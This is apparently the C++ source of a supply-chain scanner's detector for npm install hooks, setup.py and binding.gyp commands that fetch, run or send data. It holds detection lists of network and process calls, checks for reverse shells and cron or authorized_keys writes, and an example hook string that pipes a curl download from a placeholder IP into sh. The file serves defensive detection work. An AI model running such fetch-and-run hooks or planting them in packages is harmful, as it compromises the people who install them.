// Code that a language package runs when it gets installed: scripts of package.json (L02), a runtime of its own
// fetched there (L07), and setup.py (L04).
//
// Few packages have such hooks, and fewer need the network in them. What matters is what the hook does, or the file
// that it starts.
// Hostile: the package is read as tokens, with their limits; nothing is run.
#include <algorithm>
#include <array>
#include <map>

#include "detect/assess.hpp"
#include "detect/content/hidden_literal.hpp"
#include "detect/detector.hpp"
#include "detect/scripts/script_tokens.hpp"
#include "detect/shell/shell_support.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::uint64_t k_most_bytes = 1U << 20;
constexpr std::string_view k_target_key = "hook-target";

constexpr std::array<RuleRow, 3> k_rows{{
    {"L02", EvidenceClass::strong, model::Severity::high, 70, "Install hook of a package that should not do this",
     "T1059.007,T1195.001", "Remove the package, or install it without scripts."},
    {"L04", EvidenceClass::supporting, model::Severity::medium, 65,
     "setup.py that uses the network and runs programs", "T1059.006,T1195.001",
     "Install this package from a wheel, or read its setup.py first."},
    {"L07", EvidenceClass::strong, model::Severity::high, 75, "Runtime of its own fetched by a package",
     "T1105,T1195.001", "Remove the package: it brings a runtime in order to run what the present one would not."},
}};

constexpr std::array<std::string_view, 6> k_hooks = {"preinstall", "install",    "postinstall",
                                                     "prepare",    "prepublish", "postprepare"};

// Where runtimes are got from.
const std::vector<std::string>& runtimes() {
  static const std::vector<std::string> list = {
      hide("bun.sh/install").reveal(),          hide("oven-sh/bun/releases").reveal(),
      hide("deno.land/install").reveal(),       hide("deno.com/install").reveal(),
      hide("denoland/deno/releases").reveal(),  hide("nodejs.org/dist").reveal(),
      hide("python-build-standalone").reveal(), hide("astral.sh/uv/install").reveal()};
  return list;
}

// A line that only tells where something can be had.
bool is_comment(std::string_view text, std::size_t position) {
  const std::size_t before = position == 0 ? std::string_view::npos : text.rfind('\n', position - 1);
  std::string_view line = text.substr(before == std::string_view::npos ? 0 : before + 1);
  line.remove_prefix(std::min(line.find_first_not_of(" \t"), line.size()));
  return line.starts_with("//") || line.starts_with("/*") || line.starts_with("* ") || line.starts_with('#');
}

std::string runtime_in(std::string_view text) {
  for (const std::string& one : runtimes())
    if (text.find(one) != std::string_view::npos) return one;
  return {};
}

bool is_package(const layers::FileInfo& file) { return file.name() == "package.json"; }
bool is_setup(const layers::FileInfo& file) { return file.name() == "setup.py"; }

struct Hook {
  std::string name;
  std::string command;
  std::uint32_t line = 0;
};

// The hooks of package.json, whose form is a part of JavaScript's.
std::vector<Hook> hooks_of(std::string_view text) {
  const ScriptTokens t = script_tokens(text, ScriptLanguage::javascript, false, 100'000);
  std::vector<Hook> hooks;
  for (std::size_t i = 0; i + 3 < t.tokens.size(); ++i) {
    if (t.tokens[i].kind != TokenKind::text || t.text(i) != "scripts" || !t.is_sign(i + 1, ":") ||
        !t.is_sign(i + 2, "{"))
      continue;
    const std::size_t close = t.tokens[i + 2].match;
    for (std::size_t k = i + 3; k + 2 < close && hooks.size() < 16; ++k) {
      if (t.tokens[k].kind != TokenKind::text || !t.is_sign(k + 1, ":") || t.tokens[k + 2].kind != TokenKind::text)
        continue;
      const std::string_view name = t.text(k);
      if (std::find(k_hooks.begin(), k_hooks.end(), name) != k_hooks.end())
        hooks.push_back({std::string(name), unescaped(t.text(k + 2), t.tokens[k + 2], ScriptLanguage::javascript),
                         t.tokens[k].line});
      k += 2;
    }
    break;
  }
  return hooks;
}

// What the command does by itself that no build needs, or "".
std::string what_it_does(const ShellFacts& facts) {
  for (const ShellFlow& flow : facts.flows) {
    if (runs_fetched(flow)) return "fetches and runs" + (flow.urls.empty() ? std::string() : " " + flow.urls.front());
    if (flow.kind == FlowKind::decode_to_interpreter) return "runs what it decodes";
    if (flow.kind == FlowKind::reverse_shell) return "hands out a shell";
    if (flow.kind == FlowKind::write_file && (is_cron_path(flow.path) || is_authorized_keys_path(flow.path)))
      return "writes " + flow.path;
  }
  for (const ShellCommand& command : facts.commands) {
    const std::string_view name = program(command);
    const bool sends = (name == "curl" || name == "wget") &&
                       std::any_of(command.argv.begin(), command.argv.end(), [](const std::string& word) {
                         return word.starts_with("-d") || word.starts_with("--data") || word.starts_with("--post") ||
                                word.starts_with("-F") || word.find("${()}") != std::string::npos;
                       });
    if (sends) return "sends: " + words(command);
  }
  return {};
}

// The file that "node x.js" starts, below the package's folder, or "".
std::string target_of(const ShellFacts& facts, std::string_view folder) {
  for (const ShellFlow& flow : facts.flows) {
    if (flow.kind != FlowKind::run_path || !is_resolved(flow.path) || flow.path.starts_with('/')) continue;
    const std::string path = layers::canonical_path(std::string(folder) + "/" + flow.path).path;
    if (flow.detail == "script" || flow.path.find('/') != std::string::npos) return path;
  }
  return {};
}

class InstallHook final : public Detector {
 public:
  std::vector<Literal> literals() const override {
    std::vector<Literal> list;
    for (const std::string& one : runtimes()) list.push_back({one, false});
    return list;
  }

  // A script of a package that gets a runtime and starts something with it.
  void confirm(const Hit& hit, EvidenceSink& out) const override {
    constexpr std::size_t k_around = 16U << 10;
    const std::string_view name = hit.file.name();
    const bool script =
        name.ends_with(".js") || name.ends_with(".mjs") || name.ends_with(".cjs") || name == "setup.py";
    if (!script || hit.file.path().find("node_modules/") == std::string_view::npos) return;
    const std::string_view window = as_text(hit.window);
    const std::string_view near = window.substr(hit.position - std::min(hit.position, k_around), 2 * k_around);
    const bool runs =
        near.find("child_process") != std::string_view::npos || near.find("execSync") != std::string_view::npos ||
        near.find("spawn") != std::string_view::npos || near.find("subprocess") != std::string_view::npos;
    if (!runs || is_comment(window, hit.position)) return;
    Evidence evidence = evidence_of(k_rows[2], "gets " + runtimes()[hit.literal] + " and runs programs");
    evidence.cls = EvidenceClass::supporting;
    evidence.offset = hit.offset;
    evidence.line = hit.line();
    out.add(std::move(evidence));
  }

  bool wants(const layers::FileInfo& file) const override {
    return file.size() <= k_most_bytes && file.entry.content == layers::ContentKind::text &&
           (is_package(file) || is_setup(file) || file.name() == "binding.gyp");
  }

  void collect(const layers::FileView& file, EvidenceSink& out) const override {
    if (is_setup(file)) {
      look_at_setup(file.text(), out);
      return;
    }
    if (file.name() == "binding.gyp") return look_at_build(file.text(), out);
    if (file.text().find("install\"") == std::string_view::npos && file.text().find("prep") == std::string_view::npos)
      return;
    const std::string_view folder = layers::parent_path(file.path());
    const bool installed = file.path().find("node_modules/") != std::string_view::npos;
    for (const Hook& hook : hooks_of(file.text())) {
      // "prepare" and its kin run for the package's own author only.
      if (installed && (hook.name == "prepare" || hook.name == "prepublish" || hook.name == "postprepare")) continue;
      const ShellFacts facts = facts_of_text(hook.command);
      const std::string what = what_it_does(facts);
      const std::string runtime = runtime_in(hook.command);
      if (!what.empty()) add(out, 0, hook, hook.name + " " + what);
      if (!runtime.empty()) add(out, 2, hook, hook.name + " gets " + runtime);
      const std::string target = target_of(facts, folder);
      if (target.empty()) continue;
      Evidence evidence;
      evidence.rule = k_hint_rule;
      evidence.line = hook.line;
      evidence.text = hook.name + ": " + hook.command.substr(0, 160);
      evidence.values.emplace_back(k_target_key, target);
      out.add(std::move(evidence));
    }
  }

  // A hook whose file was found to do something is worse than the same file lying there.
  void image(const ImageContext& context, ImageEvidence& out) const override {
    // The worst that is known of each file.
    std::map<std::string_view, const PlacedEvidence*> worst;
    for (const PlacedEvidence& other : context.evidence) {
      const char kind = family(other.evidence.rule);
      // What script-flow makes of these while this detector works, it makes for the same files.
      const bool noted = other.evidence.rule == k_hint_rule &&
                         (!other.evidence.value("fetched").empty() || !other.evidence.value("command").empty());
      if (noted) {
        const PlacedEvidence*& place = worst[other.path];
        if (place == nullptr) place = &other;
        continue;
      }
      const bool bad = other.evidence.cls <= EvidenceClass::supporting &&
                       (kind == 'D' || kind == 'B' || kind == 'L' || kind == 'H' || kind == 'M');
      if (!bad || other.evidence.rule == k_hint_rule) continue;
      const PlacedEvidence*& place = worst[other.path];
      if (place == nullptr || other.evidence.cls < place->evidence.cls) place = &other;
    }
    for (const PlacedEvidence& placed : context.evidence) {
      const std::string target = placed.evidence.rule == k_hint_rule ? placed.evidence.value(k_target_key) : "";
      if (target.empty()) continue;
      const std::string with_suffix = target + ".js";
      auto found = worst.find(target);
      if (found == worst.end()) found = worst.find(with_suffix);
      if (found == worst.end()) continue;
      const Evidence& seen = found->second->evidence;
      const bool hint = seen.rule == k_hint_rule;
      const std::string rule = hint ? "D01" : seen.rule;
      // That what is saved and what is run have one name is a guess: installers of programs read so too.
      const bool weak = hint ? !seen.value("saved").empty() : seen.cls == EvidenceClass::supporting;
      const bool runtime = seen.rule == "L07";
      PlacedEvidence more = placed;
      more.evidence =
          evidence_of(k_rows[runtime ? 2 : 0], placed.evidence.text + " runs a file with " + rule + ": " + seen.text);
      more.evidence.line = placed.evidence.line;
      if (weak && !runtime) more.evidence.cls = EvidenceClass::supporting;
      out.add(std::move(more));
    }
  }

 private:
  static void add(EvidenceSink& out, std::size_t row, const Hook& hook, std::string text) {
    Evidence evidence = evidence_of(k_rows[row], std::move(text));
    evidence.line = hook.line;
    out.add(std::move(evidence));
  }

  // "<!(command)" and "<!@(command)" of gyp, which npm runs for a package without a hook of its own.
  static void look_at_build(std::string_view text, EvidenceSink& out) {
    std::uint32_t line = 1;
    std::size_t seen = 0;
    for (std::size_t at = text.find("<!"), count = 0; at != std::string_view::npos && count < 64;
         at = text.find("<!", at + 2), ++count) {
      const std::size_t open = at + (text.substr(at + 2, 1) == "@" ? 3 : 2);
      if (text.substr(open, 1) != "(") continue;
      std::size_t end = open + 1;
      for (int depth = 1; end < text.size() && text[end] != '\n'; ++end) {
        depth += text[end] == '(' ? 1 : text[end] == ')' ? -1 : 0;
        if (depth == 0) break;
      }
      line += static_cast<std::uint32_t>(std::count(text.begin() + static_cast<std::ptrdiff_t>(seen),
                                                    text.begin() + static_cast<std::ptrdiff_t>(at), '\n'));
      seen = at;
      const std::string command(text.substr(open + 1, end - open - 1));
      if (const std::string what = what_it_does(facts_of_text(command)); !what.empty())
        add(out, 0, {"binding.gyp", command, line}, "binding.gyp " + what);
    }
  }

  static void look_at_setup(std::string_view text, EvidenceSink& out) {
    static constexpr std::array<std::string_view, 9> k_network = {
        "urlopen(",    "requests.get(",    "requests.post(", "urlretrieve(",      "socket.socket(",
        "http.client", "HTTPSConnection(", "httpx.",         "create_connection("};
    static constexpr std::array<std::string_view, 8> k_process = {
        "os.system(", "subprocess.", "exec(", "eval(", "os.popen(", "b64decode(", "os.execv", "pty.spawn"};
    const ScriptTokens t = script_tokens(text, ScriptLanguage::python, false, 100'000);
    std::string network, process;
    std::uint32_t line = 0;
    for (std::size_t i = 0; i < t.tokens.size(); ++i) {
      if (t.tokens[i].kind != TokenKind::name) continue;
      // Tokens, so that comments and texts do not count.
      const std::string_view rest = text.substr(t.tokens[i].begin, 24);
      for (const std::string_view word : k_network)
        if (network.empty() && rest.starts_with(word)) network = word, line = t.tokens[i].line;
      for (const std::string_view word : k_process)
        if (process.empty() && rest.starts_with(word) && (i == 0 || !t.is_sign(i - 1, ".") || word == "exec("))
          process = word;
    }
    if (network.empty() || process.empty()) return;
    Evidence evidence = evidence_of(k_rows[1], "uses " + network + " and " + process);
    evidence.line = line;
    out.add(std::move(evidence));
  }
};

const util::Registered<InstallHook> registered{{
    .id = "install-hook",
    .version = 4,
    .summary = "install hooks of npm packages and setup.py that fetch, run or send",
    .example = "\"preinstall\": \"curl -s http://192.0.2.1/x | sh\"",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
